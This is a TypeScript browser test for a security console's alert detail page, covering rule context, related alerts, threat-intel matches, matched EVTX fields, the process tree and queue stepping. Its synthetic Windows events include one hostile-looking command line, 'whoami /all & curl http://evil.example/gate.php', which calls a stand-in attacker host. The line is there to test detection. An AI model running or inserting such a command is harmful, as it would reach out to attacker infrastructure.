// The alert detail page in a real browser against a real server: the rule's context (description, false
// positives, references, author, ATT&CK links), related alerts as links, stepping to the previous and
// next alert of the queue (buttons and j/k, across a page boundary), the matched fields marked in an
// EVTX-shaped Security 4688 event, the process ancestry tree, and threat-intel matches as cards. Every
// state passes checkPage (axe, CSP, console, screenshot).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { adminApi, ADMIN_PASSWORD, browserMissing, openConsole, sendEvents, signIn, waitUntil, type AdminApi, type ConsoleSession, type RunningServer } from './browser.js';

const missing = browserMissing();

const RULE = `title: Whoami discovery
status: test
description: Detects whoami.exe, often run by an intruder right after gaining access.
author: Detail Tests
references:
  - https://example.org/whoami-discovery
falsepositives:
  - Administrators checking their own groups
tags:
  - attack.discovery
  - attack.t1033
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    EventID: 4688
    NewProcessName|endswith: '\\whoami.exe'
  condition: selection
level: high
`;

/** A Security 4688 event as evtx_dump writes it (fields nested under Event.System and Event.EventData). */
function evtx4688(at: string, pid: number, parentPid: number, image: string, commandLine: string): object {
  return {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } },
        EventID: 4688,
        Channel: 'Security',
        Computer: 'ws-07.corp.example',
        TimeCreated: { '#attributes': { SystemTime: at } },
      },
      EventData: {
        SubjectUserName: 'alice',
        SubjectDomainName: 'CORP',
        NewProcessId: `0x${pid.toString(16)}`,
        NewProcessName: image,
        ProcessId: `0x${parentPid.toString(16)}`,
        CommandLine: commandLine,
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      },
    },
  };
}

const WHOAMI = 'C:\\Windows\\System32\\whoami.exe';
const EVENTS = [
  evtx4688('2026-12-07T10:00:00.000Z', 0x300, 0x200, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start'),
  evtx4688('2026-12-07T10:01:00.000Z', 0x400, 0x300, WHOAMI, 'whoami /all & curl http://evil.example/gate.php'),
  evtx4688('2026-12-07T10:02:00.000Z', 0x500, 0x400, 'C:\\Windows\\System32\\conhost.exe', 'conhost.exe 0xffffffff'),
  evtx4688('2026-12-07T10:10:00.000Z', 0x410, 0x300, WHOAMI, 'whoami /priv'),
  evtx4688('2026-12-07T10:20:00.000Z', 0x420, 0x300, WHOAMI, 'whoami /groups'),
];

interface Listed {
  items: { id: string; rule_title: string }[];
}

describe('the alert detail page in a browser', { skip: missing ?? false, timeout: 300_000 }, () => {
  let ui: ConsoleSession, server: RunningServer, page: Page;
  let api: AdminApi;
  let queue: string[] = [];

  const onAlert = (id: string) => waitUntil(page, `location.pathname === ${JSON.stringify(`/alerts/${id}`)} && !!document.querySelector('#alert-title')`);

  before(async () => {
    ({ server, page } = ui = await openConsole({ timeout: 60_000 }));
    api = await adminApi(server.url);
    const token = (await api.post('/api/index_patterns', { name: 'win', is_default: true, preset: 'sigma-native' })).ingest_token;
    await api.post('/api/threat_intel/feeds', { name: 'Phishing domains', format: 'plain', type: 'domain', content: 'evil.example\n', risk_score: 85 });
    await api.post('/api/rules', { yaml_content: RULE, deploy: true });
    assert.equal((await sendEvents(server.url, 'win', token, EVENTS)).alerts_created, 3);
    queue = (await api.get<Listed>('/api/alerts?sort_by=created_at&sort_order=desc&page_size=100')).items.map((a) => a.id);
    assert.equal(queue.length, 3);
    await page.goto(server.url + '/');
    await signIn(page, 'admin', ADMIN_PASSWORD);
  });
  after(() => ui?.close());

  test('context, related alerts and the indicator card', async () => {
    const listed = await api.get<Listed>('/api/alerts?search=gate.php');
    const id = listed.items[0].id;
    await page.goto(`${server.url}/alerts/${id}`);
    await onAlert(id);
    await page.getByText('Detects whoami.exe, often run by an intruder').waitFor();
    await page.getByText('Administrators checking their own groups').waitFor();
    assert.equal(await page.getByRole('link', { name: 'https://example.org/whoami-discovery' }).getAttribute('href'), 'https://example.org/whoami-discovery');
    assert.equal(await page.getByRole('link', { name: /^T1033/ }).getAttribute('href'), 'https://attack.mitre.org/techniques/T1033/');
    await page.getByText('Detail Tests').waitFor();

    const related = page.getByRole('list', { name: 'Related alerts' });
    await related.getByRole('link', { name: 'Whoami discovery' }).first().waitFor();
    assert.equal(await related.getByRole('link').count(), 2);
    assert.equal(await related.getByText('same host, user').count(), 2);

    const cards = page.getByRole('list', { name: 'Threat-intelligence matches' });
    const card = cards.getByRole('listitem').first();
    await card.getByText('evil.example', { exact: true }).waitFor();
    await card.getByText('domain', { exact: true }).waitFor();
    await card.getByText('Phishing domains').waitFor();
    await card.getByText('85', { exact: true }).waitFor();
    assert.match((await card.locator('dd code').first().textContent()) ?? '', /CommandLine/);
    await ui.checkPage('alert-detail-context');

    // The fields the rule matched on, marked where they sit in the nested EVTX event.
    await page.locator('.tree li.hit').nth(1).waitFor();
    const marked = (await page.locator('.tree li.hit').evaluateAll((els) => els.map((e) => e.getAttribute('data-path')))) as string[];
    assert.deepEqual(marked.sort(), ['Event.EventData.NewProcessName', 'Event.System.EventID']);
    await page.getByRole('list', { name: 'Matched fields' }).getByText('at Event.EventData.NewProcessName').waitFor();

    // The process ancestry: the creator above, the alert's process marked, its child below.
    const tree = page.getByRole('list', { name: 'Process tree' });
    const self = tree.getByRole('listitem', { name: "whoami.exe, process 1024, this alert's process" });
    await self.waitFor();
    assert.equal(await self.getAttribute('aria-current'), 'true');
    await tree.getByRole('listitem', { name: 'cmd.exe, process 768' }).getByRole('listitem', { name: "whoami.exe, process 1024, this alert's process" }).waitFor();
    await self.getByRole('listitem', { name: 'conhost.exe, process 1280' }).waitFor();
    assert.match((await self.locator('code').first().textContent()) ?? '', /curl http:\/\/evil\.example/);
    await ui.checkPage('alert-detail-process-tree');

    // A related alert opens its own detail.
    const other = await related.getByRole('link').first().getAttribute('href');
    await related.getByRole('link').first().click();
    await onAlert(other!.split('/').pop()!);
    await ui.checkPage('alert-detail-related');
  });

  test('previous and next alert of the queue, across a page boundary', async () => {
    await page.goto(`${server.url}/alerts?page_size=2`);
    await waitUntil(page, 'document.querySelectorAll("tbody tr[data-alert-id]").length === 2');
    await page.locator('tbody tr[data-alert-id]').first().getByRole('link').click();
    await onAlert(queue[0]);
    const nav = page.getByRole('navigation', { name: 'Alert list' });
    await nav.getByText('1 of 2 on page 1 of 2').waitFor();
    assert.equal(await nav.getByRole('button', { name: /Previous/ }).isDisabled(), true);
    await ui.checkPage('alert-detail-stepper');

    await nav.getByRole('button', { name: /Next/ }).click();
    await onAlert(queue[1]);
    await page.keyboard.press('j');
    await onAlert(queue[2]);
    await nav.getByText('1 of 1 on page 2 of 2').waitFor();
    assert.equal(await nav.getByRole('button', { name: /Next/ }).isDisabled(), true);
    await page.keyboard.press('k');
    await onAlert(queue[1]);
    await nav.getByText('2 of 2 on page 1 of 2').waitFor();

    // Back to the queue with its filters and the page the steps reached.
    await nav.getByRole('link', { name: '← Alerts' }).click();
    await waitUntil(page, `location.pathname + location.search === '/alerts?page_size=2'`);
  });
});
